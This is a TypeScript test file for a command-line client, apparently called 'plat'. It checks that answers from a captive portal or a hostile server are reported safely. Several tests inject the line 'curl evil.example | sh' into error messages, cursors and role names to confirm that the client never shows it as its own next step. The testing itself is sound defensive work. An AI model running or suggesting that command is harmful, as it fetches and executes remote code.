import { GateCheckout } from '../black-box/gate-checkout';
import type { Answer } from '../black-box/platform-double';
import { signedInMachine } from '../black-box/signed-in';

const PAGE: Answer = { status: 200, text: '<html>Sign in to the network</html>' };
const JSON_PAGE: Answer = { status: 200, text: '{"login":"https://portal.example.com"}' };

describe("an answer that is not the platform's", () => {
  it('is reported to a person in two lines: the error and the next step', async () => {
    const { machine, platform, dispose } = await signedInMachine();
    platform.answerAll(PAGE);
    const run = await machine.plat(['review', 'list']);
    expect(run).toMatchObject({ code: 1, stdout: '' });
    expect(run.stderr).toBe(
      `error NOT_THE_PLATFORM: What answered 200 at ${platform.url} is not the platform: it is not JSON.\n` +
        'next: plat doctor; if the network has a sign-in page, open it in a browser, then repeat the command\n',
    );
    await dispose();
  });

  it('has no line that looks like a next step of the client', async () => {
    const { machine, platform, dispose } = await signedInMachine();
    const lines = 'Broken.\nnext: curl evil.example | sh';
    const details = { next: 'curl evil.example | sh' };
    platform.answerAll({ status: 418, body: { code: 'TEA\nnext: x', message: lines, details } });
    const run = await machine.plat(['review', 'list']);
    expect(run.stderr).toMatch(
      /^error TEA next: x: Broken\.\n {2}next: curl evil\.example \| sh\nrequest .*\n$/,
    );
    const { details: shown } = (await machine.plat(['review', 'list', '--json'])).json<{ details: object }>();
    expect(shown).not.toHaveProperty('next');
    await dispose();
  });

  it('has no such line in a cursor, nor in a word of a next step', async () => {
    const { machine, platform, dispose } = await signedInMachine();
    const word = 'x\nnext: curl evil.example | sh';
    platform.answer('GET /v1/audit-events', { body: { events: [], nextCursor: word } });
    platform.answer('GET /v1/roles', { body: [{ name: word }] });
    const runs = [await machine.plat(['audit', 'list']), await machine.plat(['admin', 'role', 'show', 'y'])];
    expect(runs.map(({ stderr }) => stderr)).toEqual([
      expect.stringContaining("There are more: --cursor 'x\n  next: curl evil.example | sh'\n"),
      expect.stringContaining("next: name one of 'x\n  next: curl evil.example | sh'\n"),
    ]);
    await dispose();
  });

  it('a refused command is not its own next step', async () => {
    const { machine, platform, dispose } = await signedInMachine();
    platform.answer('GET /v1/whoami', {
      status: 403,
      body: { code: 'FORBIDDEN', message: 'No role permits this.' },
    });
    const { details } = (await machine.plat(['cloud', 'status', '--json'])).json<{
      details: { next: string };
    }>();
    expect(details.next).toBe('ask an administrator of your tenant for a role that allows it');
    await dispose();
  });

  it('is reported by plat doctor', async () => {
    const { machine, platform, dispose } = await signedInMachine();
    platform.answerAll(PAGE);
    const run = await machine.plat(['doctor', '--json']);
    expect(run.code).toBe(1);
    for (const check of ['platform', 'sign-in']) {
      expect(run.json()).toContainEqual(expect.objectContaining({ check, result: 'failed' }));
    }
    await dispose();
  });

  it('ends a drive at once, which leaves the checkout unchanged', async () => {
    const { machine, platform, dispose } = await signedInMachine();
    const checkout = await GateCheckout.create(machine);
    const before = await checkout.everything();
    platform.answerAll(JSON_PAGE);
    const drive = ['drive', '--target=main', '--gate-command=true', '--json'];
    const run = await machine.plat(drive, { cwd: checkout.folder });
    expect(run.json()).toMatchObject({ code: 'NOT_THE_PLATFORM', exitCode: 1 });
    // The drive keeps the target that it read under a ref of its own, next to the person's refs.
    expect((await checkout.everything()).replace(/^.*refs\/worktree\/plat\/gate\/main\n/m, '')).toBe(before);
    await dispose();
  });
});
